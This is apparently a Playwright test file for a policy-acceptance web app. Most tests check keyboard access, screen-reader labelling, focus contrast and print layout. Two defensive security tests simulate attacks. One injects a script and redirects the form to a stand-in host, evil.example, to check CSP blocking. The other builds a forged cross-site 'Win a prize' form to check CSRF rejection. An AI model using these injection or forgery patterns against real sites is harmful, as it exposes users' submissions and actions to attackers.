"""In Chromium, without JavaScript: with the keyboard alone, as a screen reader has it, narrow and on paper."""

import re
from datetime import UTC, datetime
from itertools import pairwise

import pytest
from acceptance_app.conftest import INFORCE
from acceptance_app.test_flow import begun, shopping
from acceptance_app.whole_app import BACK, JOINED, Company
from browser.conftest import chromium  # noqa: F401 - a fixture
from browser.test_accessibility import faults
from repository import material

pytestmark = pytest.mark.browser
KINDS = [(scheme, width) for scheme in ("light", "dark") for width in (390, 1280)]


@pytest.fixture(scope="module")
def changed(tmp_path_factory):
    """The address of a page on which a member sees what changed since what they accepted."""
    company = Company(tmp_path_factory.mktemp("changed"), INFORCE)
    with company.serving() as app:
        for scheme, width in KINDS:
            app.answers("accepted", f"{scheme}-{width}", JOINED)
    text = "# Privacy Policy\n\nWe keep what you tell us, in Busan.\n\n| Cookie | Days |\n|---|---|\n| id | 30 |\n"
    company.repo.commit(datetime.now(UTC).isoformat(), {"privacy-policy/later.md": material("", text)})
    with company.serving() as app:
        yield lambda subject: app.ask(subject, JOINED)["address"]


@pytest.fixture
def visited(chromium):  # noqa: F811 - the fixture
    """Opens an address; with scripts only where somebody looks from outside."""
    contexts = []

    def opens(address, *, scripts=False, **options):
        context = chromium.new_context(java_script_enabled=scripts, **options)
        contexts.append(context)
        page = context.new_page()
        page.said = []
        page.on("console", lambda message: page.said.append(message.text))
        page.goto(address)
        return page

    yield opens
    for context in contexts:
        context.close()


def focused(page):
    """What has the focus: its id, or else its words."""
    return page.locator(":focus").evaluate("one => one.id || one.getAttribute('role') || one.textContent.trim()")


def tab_to(page, wanted):
    """Press Tab until that has the focus."""
    for _ in range(60):
        page.keyboard.press("Tab")
        if page.locator(":focus").count() and focused(page) == wanted:
            return
    raise AssertionError(f"Tab never came to {wanted}")


def test_who_registers_needs_nothing_but_the_keyboard(app, visited):
    back = f"{app.address}health"
    asked = app.ask("keyboard", None, ["privacy-policy", "user-agreement"], return_to=back, state="s")
    page = visited(asked["address"])
    for _ in range(2):
        tab_to(page, "Go to the answer")
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    assert focused(page) == "accepted-2", "past the whole text, at its answer"
    page.keyboard.press("Space")
    tab_to(page, "Send the answer")
    page.keyboard.press("Enter")
    page.wait_for_selector("[role=alert]")
    assert focused(page) == "alert", "what is wrong is said first"
    assert [page.is_checked(f"#accepted-{number}") for number in (1, 2)] == [False, True]
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    assert focused(page) == "accepted-1", "and its link leads to what is missing"
    page.keyboard.press("Space")
    page.keyboard.press("Enter")
    page.wait_for_url(f"{back}?request={asked['id']}&state=s")
    answers = app.outcome(asked["id"])["answers"]
    assert [(one["policy"], one["decision"]) for one in answers] == [
        ("privacy-policy", "accepted"),
        ("user-agreement", "accepted"),
    ]
    assert [one for one in page.said if "422" not in one] == []


def test_the_shop_of_another_site_sends_people_here_and_gets_them_back(app, visited):
    with shopping(app) as browser:
        begun(browser)
        page = visited(f"{app.company.shop}register")
        for number in (1, 2):
            page.check(f"#accepted-{number}")
        page.click("button")
        page.wait_for_url(f"{app.company.shop}registered?*")
        assert page.locator("body").inner_text() == "Welcome"
        assert not [one for one in page.said if "Content Security" in one]


def test_arrows_choose_between_the_answers(app, visited):
    asked = app.ask("arrows")
    page = visited(asked["address"])
    tab_to(page, "accepted-1")
    page.keyboard.press("ArrowDown")
    assert page.is_checked("#declined-1")
    page.keyboard.press("ArrowDown")
    assert page.is_checked("#deferred-1")
    tab_to(page, "Send the answer")
    page.keyboard.press("Enter")
    page.wait_for_selector(".app-told")
    assert app.outcome(asked["id"])["answers"][0]["decision"] == "deferred"


def test_a_screen_reader_is_told_the_question_with_each_answer(app, visited):
    page = visited(app.ask("reader", None, ["privacy-policy", "user-agreement"])["address"])
    for title, day in (("Privacy Policy", "10 April 2018"), ("User Agreement", "1 March 2014")):
        group = page.get_by_role("group", name=f"Your answer: {title}")
        names = [f"I have read the {title} of {day}, and I accept it.", "I decline it.", "I will decide later."]
        for name in names:
            assert not group.get_by_role("radio", name=name, exact=True).is_checked()
    assert page.get_by_role("heading", level=1).all_inner_texts() == ["What you are asked to accept"]
    levels = page.locator(":is(h1, h2, h3, h4, h5, h6)").evaluate_all("all => all.map(one => Number(one.tagName[1]))")
    assert all(after <= before + 1 for before, after in pairwise(levels))


RING = """one => {
    const style = getComputedStyle(one);
    const ground = getComputedStyle(document.body).backgroundColor;
    return [style.outlineStyle, style.outlineWidth, style.outlineColor, ground];
}"""


def luminance(colour):
    """As WCAG has it, of `rgb(…)`."""
    parts = [int(one) / 255 for one in re.findall(r"\d+", colour)[:3]]
    red, green, blue = (one / 12.92 if one <= 0.04045 else ((one + 0.055) / 1.055) ** 2.4 for one in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_what_has_the_focus_is_seen_to_have_it(app, visited, scheme):
    page = visited(app.ask(f"ring-{scheme}")["address"], color_scheme=scheme)
    for one in ("Go to the answer", "accepted-1", "Send the answer"):
        tab_to(page, one)
        style, width, ring, ground = page.locator(":focus").evaluate(RING)
        dark, light = sorted(map(luminance, (ring, ground)))
        assert (style, width) == ("solid", "3px")
        assert (light + 0.05) / (dark + 0.05) >= 3, one


@pytest.mark.parametrize(("scheme", "width"), KINDS)
def test_no_page_has_a_fault_that_a_program_finds(changed, visited, scheme, width):
    options = {"color_scheme": scheme, "viewport": {"width": width, "height": 900}, "bypass_csp": True}
    page = visited(changed(f"{scheme}-{width}"), scripts=True, **options)
    assert page.locator(".app-changed").count() == 1
    assert faults(page) == []
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.click("button")
    page.wait_for_selector("[role=alert]")
    assert faults(page) == []
    page.check("#accepted-1")
    page.click("button")
    page.wait_for_selector(".app-told")
    assert faults(page) == []
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.goto(f"{page.url[:-43]}{'x' * 43}")
    assert page.title() == "This address is not known · Qstore"
    assert faults(page) == []


def test_axe_would_find_a_fault(app, visited):
    page = visited(app.ask("axe")["address"], scripts=True, bypass_csp=True)
    page.evaluate("document.querySelector('label').remove()")
    assert [rule for rule, _, _ in faults(page)] == ["label"]


def test_paper_has_the_texts_and_the_receipts_and_no_buttons(app, visited):
    asked = app.ask("paper")
    page = visited(asked["address"])
    page.emulate_media(media="print")
    assert not page.locator("button").is_visible()
    assert page.locator("article").is_visible()
    page.emulate_media(media="screen")
    page.check("#declined-1")
    page.click("button")
    page.wait_for_selector(".app-told")
    page.emulate_media(media="print")
    assert page.locator(".app-receipt").is_visible()


def test_nothing_runs_and_nothing_is_loaded_from_elsewhere(app, visited):
    asked = app.ask("policy", None, return_to=BACK)
    page = visited(asked["address"], scripts=True)
    page.evaluate(
        """() => { const more = document.createElement("script"); more.textContent = "document.title = 'run'";
        document.body.append(more); document.querySelector("form").action = "https://evil.example/"; }"""
    )
    page.check("#accepted-1")
    page.locator("button").dispatch_event("click")
    while not any("form-action" in one for one in page.said):
        page.wait_for_timeout(10)
    assert page.locator("h1").inner_text() == "What you are asked to accept"
    assert any("script-src" in one or "default-src" in one for one in page.said)
    assert app.outcome(asked["id"])["status"] == "pending"


def test_another_site_cannot_send_the_form(app, visited):
    """It knows the address, and has the person's browser send the form: with a cookie of its own making it cannot."""
    asked = app.ask("forged")
    seen = app.page(asked["address"])
    fields = "".join(f"<input name='{name}' value='{value}'>" for name, value in seen.filled("accepted").items())
    page = visited(asked["address"])
    page.goto("about:blank")
    page.set_content(f"<form method=post action='{asked['address']}'>{fields}<button>Win a prize</button></form>")
    page.click("button")
    page.wait_for_url(asked["address"])
    assert page.title() == "The form did not come from its page · Qstore"
    assert app.outcome(asked["id"])["status"] == "pending"
